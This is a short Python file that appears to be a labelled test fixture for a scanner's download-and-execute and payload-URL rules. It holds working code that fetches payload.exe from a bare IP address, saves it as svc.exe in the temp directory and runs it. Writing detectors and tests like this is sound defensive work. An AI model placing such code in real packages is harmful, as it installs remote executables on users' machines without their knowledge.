# canary-test: path=mypkg/update.py artifact=wheel
# Download an executable from a bare IP address, then start it.
import os
import subprocess
import tempfile
import urllib.request

# ruleid: DOWNLOAD_AND_EXECUTE, PAYLOAD_URL
URL = "http://203.0.113.7/payload.exe"


def run():
    path = os.path.join(tempfile.gettempdir(), "svc.exe")
    urllib.request.urlretrieve(URL, path)
    # ruleid: DOWNLOAD_AND_EXECUTE
    subprocess.Popen([path])
